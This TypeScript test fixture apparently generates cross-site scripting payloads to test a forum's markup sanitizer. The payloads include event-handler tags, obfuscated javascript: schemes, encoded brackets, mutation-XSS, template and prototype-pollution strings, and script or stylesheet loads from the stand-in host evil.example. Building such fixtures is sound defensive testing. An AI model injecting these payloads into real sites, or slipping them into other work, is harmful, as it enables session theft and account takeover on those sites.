import { readFileSync } from "node:fs";

/*
 * Strings that would run `xss()`, load from evil.example or leave the site if any of them were read
 * as markup, an address or a template instead of as text. Composed here, from the ways in which that
 * is known to happen: what runs by itself, how one gets out of where the text stands, how an address
 * or a bracket can be written otherwise.
 */

const TAGS = [
  "img src=x",
  "svg",
  "body",
  "details open",
  "input autofocus",
  "select autofocus",
  "textarea autofocus",
  "video src=x",
  "audio src=x",
  "iframe",
  "object data=x",
  "marquee",
  "a href=# autofocus",
  "button autofocus popovertarget=x",
  "form",
  "x-y contenteditable autofocus",
  "dialog open",
  "link rel=stylesheet href=x",
];
const EVENTS = [
  "onerror",
  "onload",
  "onfocus",
  "onfocusin",
  "ontoggle",
  "onbeforetoggle",
  "onstart",
  "onanimationstart",
  "ontransitionend",
  "onpointerenter",
  "oncontentvisibilityautostatechange",
  "onscrollend",
];

/** What ends the place in which a text may stand. */
const ENDS = [
  "",
  '">',
  "'>",
  "`>",
  "</title>",
  "</textarea>",
  "</script>",
  "</style>",
  "</noscript>",
  "</template>",
  "</option></select>",
  "-->",
  "]]>",
  "*/",
  '\\">',
  '"}</script>',
];
const MARKUP = [
  "<script>xss()</script>",
  "<img src=x onerror=xss()>",
  "<svg/onload=xss()>",
  '<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
  "<script src=//evil.example/x.js></script>",
  '" autofocus onfocus=xss() x="',
];

/** `javascript:` as browsers also read it, or once did. */
const SCHEMES = [
  "javascript:",
  "JaVaScRiPt:",
  " javascript:",
  "java\tscript:",
  "java\nscript:",
  "&#106;avascript:",
  "&#x6A;avascript:",
  "&#0000106avascript:",
  "java&Tab;script:",
  "javascript&colon;",
  "%6Aavascript:",
  "\\u006aavascript:",
  "data:text/html,<script>xss()</script>",
];
const CARRIERS = [
  (url: string) => url,
  (url: string) => `<a href="${url}">x</a>`,
  (url: string) => `<iframe src="${url}"></iframe>`,
  (url: string) => `<form action="${url}"><button>x</button></form>`,
  (url: string) => `<object data="${url}"></object>`,
  (url: string) => `<embed src="${url}">`,
  (url: string) => `<svg><a xlink:href="${url}"><text>x</text></a></svg>`,
  (url: string) => `<base href="${url}//">`,
  (url: string) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url: string) => `[x](${url})`,
  (url: string) => `![x](${url})`,
];

/** A bracket as some decoder along the way may read it. */
const BRACKETS: ((markup: string) => string)[] = [
  encodeURIComponent,
  (markup) => encodeURIComponent(encodeURIComponent(markup)),
  (markup) => markup.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (markup) => markup.replaceAll("<", "&amp;lt;").replaceAll(">", "&amp;gt;"),
  (markup) => markup.replaceAll("<", "&#60;").replaceAll(">", "&#62;"),
  (markup) => markup.replaceAll("<", "&#x3c").replaceAll(">", "&#x3e"),
  (markup) => markup.replaceAll("<", "\\u003c").replaceAll(">", "\\u003e"),
  (markup) => markup.replaceAll("<", "\\x3c").replaceAll(">", "\\x3e"),
  (markup) => markup.replaceAll("<", "＜").replaceAll(">", "＞"),
  (markup) => markup.replaceAll("<", "+ADw-").replaceAll(">", "+AD4-"),
  (markup) => markup.replaceAll("<", "<<").replaceAll(">", ">>"),
  (markup) => markup.replaceAll(" ", "/"),
  (markup) => markup.replaceAll(" ", "\n"),
  (markup) => markup.toUpperCase().replaceAll("XSS", "xss"),
  (markup) => markup.replaceAll("<", "<!--><"),
  (markup) => `\u202e${markup}\u2028\u2029\ufeff`,
];

/** What parsers read differently the second time, templates, styles, names of objects. */
const ODD = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=xss()&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=xss()>">',
  "<svg><style><img src=x onerror=xss()></style></svg>",
  "<svg><script>xss()</script></svg>",
  "<svg><animate onbegin=xss() attributeName=x dur=1s></svg>",
  "<svg><set attributeName=href to=javascript:xss()></svg>",
  '<svg><use href="data:image/svg+xml,<svg id=x onload=xss()>#x"></svg>',
  "<template><script>xss()</script></template>",
  "<template shadowrootmode=open><script>xss()</script></template>",
  "<select><template><img src=x onerror=xss()></template></select>",
  "<table><td background=javascript:xss()>",
  "<img src=x:x onerror=xss()//",
  '<img src="x` `<script>xss()</script>"` `>',
  "<script\n>xss()</script\n>",
  "<script type=module>xss()</script>",
  '<script type=speculationrules>{"prefetch":[{"urls":["//evil.example"]}]}</script>',
  "<link rel=prefetch href=//evil.example>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>@import'//evil.example/x.css';</style>",
  "<style>*{background:url(//evil.example/x)}</style>",
  "<div style=background:url(//evil.example/x)>x</div>",
  "<div style=width:expression(xss())>x</div>",
  "<div style=animation-name:x onanimationstart=xss()>x</div>",
  "<form id=xss><input name=innerHTML></form>",
  "<a id=session><a id=session name=token href=//evil.example>",
  "<img name=getElementById>",
  "<portal src=//evil.example></portal>",
  "<object type=text/html data=//evil.example></object>",
  "{{constructor.constructor('xss()')()}}",
  "{{xss()}}",
  "${xss()}",
  "`${xss()}`",
  "#{xss()}",
  "<%= xss() %>",
  "{% raw %}{{xss()}}{% endraw %}",
  "[[${xss()}]]",
  "<div ng-app ng-csp>{{$eval.constructor('xss()')()}}</div>",
  "<div v-html=\"'<img src=x onerror=xss()>'\"></div>",
  '{"__html":"<img src=x onerror=xss()>"}',
  '{"$$typeof":"Symbol(react.element)","props":{"dangerouslySetInnerHTML":{"__html":"<script>xss()</script>"}}}',
  "__proto__[innerHTML]=<img src=x onerror=xss()>",
  "constructor",
  "__proto__",
  "';xss();//",
  '";xss();//',
  "\\';xss();//",
  "</script><!--<script>",
  "<!--<script>xss()//-->",
  "<![CDATA[<script>xss()</script>]]>",
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">xss()</x:script>',
  "//evil.example",
  "https://evil.example/<script>xss()</script>",
  "<https://evil.example>",
  "<javascript:xss()>",
  "[x]: javascript:xss()",
  '[x](https://evil.example "onclick=xss()")',
];

/** OWASP's, and what is known of Markdown: the corpus of the server's own tests. */
const MARKDOWN = readFileSync(
  new URL("../../crates/markup/src/tests/hostile_markup.txt", import.meta.url),
  "utf8",
)
  .trim()
  .split("\n\n");

/** Where Markdown reads a text differently. */
const CONTEXTS: ((text: string) => string)[] = [
  (text) => text,
  (text) => `> ${text}`,
  (text) => `# ${text}`,
  (text) => `**${text}**`,
  (text) => `[${text}](/x)`,
  (text) => `| a |\n| - |\n| ${text} |`,
  (text) => `x ${text} y`,
];

const runs = (scheme: string) => (scheme.startsWith("data:") ? scheme : `${scheme}xss()`);

export const XSS = [
  ...new Set([
    ...TAGS.flatMap((tag) => EVENTS.map((event) => `<${tag} ${event}=xss()>`)),
    ...ENDS.flatMap((end) => MARKUP.map((markup) => end + markup)),
    ...CARRIERS.flatMap((carry) => SCHEMES.map((scheme) => carry(runs(scheme)))),
    ...BRACKETS.flatMap((write) => MARKUP.slice(0, 3).map(write)),
    ...ODD,
    ...MARKDOWN,
  ]),
].map((text) => text.trim());

/**
 * The same for fields that are Markdown: each is an item of a list, so that an open fence or block of
 * markup ends before the next one.
 */
export const XSS_MARKDOWN = [
  ...XSS,
  ...CONTEXTS.slice(1).flatMap((write) => MARKDOWN.map(write)),
].map((text) => `- ${text.replaceAll("\n", "\n  ")}`);

/** Pictures that are addresses of pictures by the forum's rule, and what else they might be. */
export const PICTURES = [
  "https://evil.example/x.svg",
  "https://evil.example/x.png?next=javascript:xss()",
  "https://evil.example/'onerror=xss()'.png",
  "https://evil.example/<script>xss()</script>.png",
  "https://evil.example/`onerror=xss()`.png",
  "https://evil.example/&quot;onerror=xss()&quot;.png",
  'https://evil.example/"onerror=xss()".png',
  ...SCHEMES.map(runs),
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='xss()'/>",
  "//evil.example/x.png",
  "https:evil.example/x.png",
  "https://user:secret@evil.example/x.png",
];

/** As many strings in one text as there is room for, and what did not fit anywhere. */
export function packed(strings: string[], room: number): string[] {
  const texts: string[] = [];
  for (const string of strings.filter(({ length }) => length <= room)) {
    const last = texts.at(-1);
    if (last !== undefined && last.length + 1 + string.length <= room)
      texts[texts.length - 1] = `${last}\n${string}`;
    else texts.push(string);
  }
  return texts;
}
